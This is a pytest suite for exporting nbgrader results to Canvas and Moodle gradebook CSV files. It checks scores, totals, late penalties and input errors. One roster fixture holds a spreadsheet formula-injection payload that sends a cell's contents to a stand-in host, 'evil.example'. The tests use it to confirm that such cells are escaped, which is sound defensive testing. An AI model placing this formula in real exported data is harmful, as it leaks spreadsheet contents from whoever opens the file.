"""The LMS gradebook: every cell checked against values computed here from the result rows, the
written file read back with the csv module, and one export from a real nbgrader gradebook."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from nbgrader.api import Gradebook

from course.cohort.csv_safe import write_csv
from course.cohort.lms import export_gradebook, gradebook_students, gradebook_table
from course.cohort.scores import cohort_grid, module_scores

COURSE_ID = "mip-social-media"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
CANVAS_FIRST = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
MOODLE_FIRST = ["First name", "Last name", "ID number", "Email address", "LMS user ID"]
RESULT_COLUMNS = ["student", "module", "scenario", "status", "score", "max_score", "reasons"]

# id, first_name, last_name, email, lms_user_id: in a deliberately unsorted order.
ROSTER = [
    ("t1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "Ames", "t1@example.org", "101"),
    ("t2", "+Bea", "Brown", "t2@example.org", "102"),
    ("t6", "Flo", "Fox", None, None),
    ("t3", "Cy", "-Cole", "@t3@example.org", None),
    ("t4", "@Di", "Dunn", None, "104"),
    ("t5", "Zoë", "Ó Súilleabháin", "t5@example.org", "105"),
]
TITLES = {
    "m1": "01 Online presence is public and permanent",
    "m2": "02 Keeping boundaries",
    "m3": "03 Protecting your privacy",
}
# (student, module, scenario, status, score, max_score); nobody submitted m3; t5 submitted nothing.
RESULTS = [
    ("t1", "m1", "a1", "graded", 4.0, 5.0),
    ("t1", "m1", "a2", "graded", 3.0, 3.0),
    ("t1", "m2", "b1", "tampered", 0.0, 6.0),
    ("t2", "m1", "a1", "failed", None, None),
    ("t2", "m1", "a2", "graded", 2.0, 3.0),
    ("t2", "m2", "b1", "graded", 6.0, 6.0),
    ("t3", "m1", "a1", "not-started", 0.0, 5.0),
    ("t3", "m1", "a2", "not-started", 0.0, 3.0),
    ("t4", "m2", "b1", "failed", None, None),
    ("t6", "m1", "a1", "graded", 2.5, 5.0),
    ("t6", "m1", "a2", "graded", 1.0, 3.0),
]


def results_frame(rows=RESULTS) -> pd.DataFrame:
    return pd.DataFrame([[*row, ""] for row in rows], columns=RESULT_COLUMNS)


def roster_frame(rows=ROSTER) -> pd.DataFrame:
    return pd.DataFrame(rows, columns=["id", "first_name", "last_name", "email", "lms_user_id"])


def grid_for(rows=RESULTS, roster=ROSTER, titles=TITLES) -> pd.DataFrame:
    return cohort_grid(module_scores(results_frame(rows)), [r[0] for r in roster], list(titles))


# --- expected values, computed from RESULTS with plain loops --------------------------------------


def number_text(value: float) -> str:
    return str(int(value)) if float(value).is_integer() else str(value)


def expected_cells(rows=RESULTS) -> dict[tuple[str, str], str]:
    """(trainee, module) -> the text the CSV cell should hold; absent pairs are blank."""
    status: dict[tuple[str, str], str] = {}
    total: dict[tuple[str, str], float] = {}
    for student, module, _scenario, row_status, score, _max in rows:
        key = (student, module)
        total[key] = total.get(key, 0.0) + (score or 0.0)
        if row_status == "failed" or status.get(key) == "failed":
            status[key] = "failed"
        else:
            status[key] = "graded"
    return {key: "failed" if status[key] == "failed" else number_text(total[key]) for key in status}


def expected_max(rows=RESULTS, titles=TITLES) -> dict[str, float | None]:
    scenario_max: dict[tuple[str, str], float] = {}
    scenarios: dict[str, set[str]] = {}
    for _student, module, scenario, _status, _score, maximum in rows:
        scenarios.setdefault(module, set()).add(scenario)
        if maximum is not None:
            scenario_max[(module, scenario)] = maximum
    out: dict[str, float | None] = {}
    for module in titles:
        known = [scenario_max.get((module, s)) for s in sorted(scenarios.get(module, ()))]
        out[module] = sum(known) if known and None not in known else None
    return out


def expected_total(marks: list[str]) -> str:
    if "failed" in marks:
        return "failed"
    numbers = [float(m) for m in marks if m]
    return number_text(sum(numbers)) if numbers else ""


def safe(text: str | None) -> str:
    text = "" if text is None else text
    return "'" + text if text.startswith(TRIGGERS) else text


def read_csv(path: Path) -> tuple[bytes, list[list[str]]]:
    raw = path.read_bytes()
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                float(cell)  # only a number (a negative one) may start with "-"


# --- Canvas -------------------------------------------------------------------------------------


def test_canvas_file_layout_identity_and_points_row(tmp_path):
    path = write_csv(gradebook_table(grid_for(), roster_frame(), TITLES, "canvas"), tmp_path / "c.csv")
    raw, rows = read_csv(path)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert rows[0] == [*CANVAS_FIRST, *TITLES.values(), "Current Points"]

    maxima = expected_max()
    assert rows[1][0] == "Points Possible"
    assert rows[1][1:5] == ["", "", "", ""]
    assert rows[1][5:8] == ["" if maxima[m] is None else number_text(maxima[m]) for m in TITLES]

    assert [r[2] for r in rows[2:]] == [t[0] for t in ROSTER]  # one row per trainee, roster order
    for written, (tid, first, last, email, lms_id) in zip(rows[2:], ROSTER, strict=True):
        assert written[:5] == [safe(f"{last}, {first}"), lms_id or "", tid, safe(email), ""]
    assert_no_live_formula(rows)


def test_canvas_cells_are_scores_failed_or_blank_and_total_follows(tmp_path):
    path = write_csv(gradebook_table(grid_for(), roster_frame(), TITLES, "canvas"), tmp_path / "c.csv")
    _, rows = read_csv(path)
    cells = expected_cells()
    for written, (tid, *_rest) in zip(rows[2:], ROSTER, strict=True):
        marks = [cells.get((tid, m), "") for m in TITLES]
        assert written[5:8] == marks, tid
        assert written[8] == expected_total(marks), tid
    by_id = {r[2]: r for r in rows[2:]}
    assert by_id["t2"][5] == "failed" and by_id["t2"][8] == "failed"  # never 0
    assert by_id["t4"][6] == "failed"
    assert by_id["t5"][5:9] == ["", "", "", ""]  # submitted nothing: blank, not 0
    assert by_id["t3"][5] == "0"  # not started: a real 0


def test_canvas_student_name_falls_back_to_the_id():
    roster = roster_frame([("t9", None, None, None, None)])
    table = gradebook_table(grid_for([], roster=[("t9",)]), roster, TITLES, "canvas")
    assert table.iloc[1]["Student"] == "t9"


# --- Moodle -------------------------------------------------------------------------------------


def test_moodle_header_carries_the_maxima_and_cells_match(tmp_path):
    path = write_csv(gradebook_table(grid_for(), roster_frame(), TITLES, "moodle"), tmp_path / "m.csv")
    raw, rows = read_csv(path)
    assert raw.startswith(b"\xef\xbb\xbf")
    maxima = expected_max()
    headers = [
        TITLES[m] if maxima[m] is None else f"{TITLES[m]} (out of {number_text(maxima[m])})" for m in TITLES
    ]
    # m3's maximum is unknown (nobody submitted it), so the total's is too.
    assert rows[0] == [*MOODLE_FIRST, *headers, "Total"]
    assert len(rows) == 1 + len(ROSTER)  # no extra row: Moodle would fail to find its user
    cells = expected_cells()
    for written, (tid, first, last, email, lms_id) in zip(rows[1:], ROSTER, strict=True):
        assert written[:5] == [safe(first), safe(last), tid, safe(email), lms_id or ""]
        marks = [cells.get((tid, m), "") for m in TITLES]
        assert written[5:] == [*marks, expected_total(marks)]
    assert_no_live_formula(rows)


def test_moodle_total_header_when_every_maximum_is_known():
    titles = {m: TITLES[m] for m in ("m1", "m2")}
    table = gradebook_table(grid_for(titles=titles), roster_frame(), titles, "moodle")
    maxima = expected_max(titles=titles)
    assert table.columns[-1] == f"Total (out of {number_text(maxima['m1'] + maxima['m2'])})"


# --- refusals -----------------------------------------------------------------------------------


def test_unknown_lms_names_the_accepted_values():
    with pytest.raises(ValueError) as error:
        gradebook_table(grid_for(), roster_frame(), TITLES, "blackboard")
    for word in ("blackboard", "canvas", "moodle"):
        assert word in str(error.value)


def test_grid_trainee_missing_from_roster_is_named():
    with pytest.raises(ValueError, match="t4"):
        gradebook_table(grid_for(), roster_frame([r for r in ROSTER if r[0] != "t4"]), TITLES, "moodle")


def test_grid_module_without_a_title_is_named():
    with pytest.raises(ValueError, match="m3"):
        gradebook_table(grid_for(), roster_frame(), {"m1": "A", "m2": "B"}, "canvas")


def test_duplicate_titles_and_roster_ids_are_refused():
    with pytest.raises(ValueError, match="m1, m2"):
        gradebook_table(grid_for(), roster_frame(), {"m1": "Same", "m2": "Same", "m3": "C"}, "canvas")
    with pytest.raises(ValueError, match="t1"):
        gradebook_table(grid_for(), roster_frame([*ROSTER, ROSTER[0]]), TITLES, "canvas")


def test_a_module_with_two_maxima_is_refused():
    grid = grid_for()
    grid.loc[(grid["student"] == "t1") & (grid["module"] == "m1"), "max_score"] = 99.0
    with pytest.raises(ValueError, match="m1"):
        gradebook_table(grid, roster_frame(), TITLES, "moodle")


# --- export from a real nbgrader gradebook ------------------------------------------------------


@pytest.fixture(scope="module")
def course_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course with a real nbgrader gradebook holding ROSTER; the tests only read it (creating a
    gradebook costs nbgrader an `alembic` run of several seconds, so it is made once)."""
    root = tmp_path_factory.mktemp("nbgrader") / "course"
    root.mkdir()
    (root / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.CourseDirectory.course_id = {COURSE_ID!r}\n", encoding="utf-8"
    )
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", COURSE_ID) as gb:
        for tid, first, last, email, lms_id in ROSTER:
            gb.add_student(tid, first_name=first, last_name=last, email=email, lms_user_id=lms_id)
    return root


def test_gradebook_students_gives_nbgrader_students_in_its_order(course_dir):
    roster = gradebook_students(course_dir)
    assert list(roster.columns) == ["id", "first_name", "last_name", "email", "lms_user_id"]
    expected = sorted(ROSTER, key=lambda r: (r[2], r[1]))
    got = [tuple(None if pd.isna(v) else v for v in row) for row in roster.itertuples(index=False)]
    assert got == expected


def test_gradebook_students_without_a_gradebook_creates_none(tmp_path):
    with pytest.raises(FileNotFoundError, match=r"gradebook\.db"):
        gradebook_students(tmp_path)
    assert not (tmp_path / "gradebook.db").exists()


@pytest.mark.parametrize("lms", ["canvas", "moodle"])
def test_export_gradebook_from_nbgrader(course_dir, tmp_path, lms):
    path = export_gradebook(
        course_dir, tmp_path / "export" / f"{lms}.csv", lms, TITLES, results=results_frame()
    )
    raw, rows = read_csv(path)
    assert raw.startswith(b"\xef\xbb\xbf")
    first = CANVAS_FIRST if lms == "canvas" else MOODLE_FIRST
    assert rows[0][:5] == first
    trainee_rows = rows[2:] if lms == "canvas" else rows[1:]
    id_column = 2  # nbgrader's id: "SIS User ID" for Canvas, "ID number" for Moodle
    ordered = sorted(ROSTER, key=lambda r: (r[2], r[1]))
    assert [r[id_column] for r in trainee_rows] == [r[0] for r in ordered]
    cells = expected_cells()
    for written, (tid, *_rest) in zip(trainee_rows, ordered, strict=True):
        marks = [cells.get((tid, m), "") for m in TITLES]
        assert written[5:] == [*marks, expected_total(marks)], tid
    assert_no_live_formula(rows)


def test_export_refuses_results_of_a_trainee_not_in_the_gradebook(course_dir, tmp_path):
    stranger = [*RESULTS, ("zed", "m1", "a1", "graded", 1.0, 5.0)]
    out = tmp_path / "g.csv"
    with pytest.raises(ValueError, match="zed"):
        export_gradebook(course_dir, out, "canvas", TITLES, results=results_frame(stranger))
    assert not out.exists()


def test_export_refuses_an_unknown_lms_before_reading_anything(tmp_path):
    with pytest.raises(ValueError, match="canvas, moodle"):
        export_gradebook(tmp_path / "nowhere", tmp_path / "g.csv", "Moodle ", TITLES)


@pytest.mark.parametrize("lms", ["moodle", "canvas"])
def test_cells_are_the_grade_after_the_late_penalty_never_below_zero(lms):
    """nbgrader keeps a late penalty apart from the score; the LMS gets the grade, as grades.csv's
    score: the module's points less its penalty, at least 0, and the total of those."""
    penalties = {("t1", "m1", "a1"): 1.5, ("t1", "m1", "a2"): 0.5, ("t2", "m2", "b1"): 9.0}
    results = results_frame()
    results["penalty"] = [penalties.get(tuple(r[:3]), 0.0) for r in RESULTS]
    grid = cohort_grid(module_scores(results), [r[0] for r in ROSTER], list(TITLES))
    table = gradebook_table(grid, roster_frame(), TITLES, lms)
    rows = table.iloc[1:] if lms == "canvas" else table
    by_id = rows.set_index("SIS User ID" if lms == "canvas" else "ID number")
    column = {m: next(c for c in table.columns if str(c).startswith(t)) for m, t in TITLES.items()}
    for (student, module), text in expected_cells().items():
        if text == "failed" or student not in by_id.index:
            continue
        taken = sum(p for (s, m, _), p in penalties.items() if (s, m) == (student, module))
        assert float(by_id.loc[student, column[module]]) == max(0.0, float(text) - taken), (student, module)
    assert float(by_id.loc["t1", column["m1"]]) == 7.0 - 2.0  # the penalty really is taken off
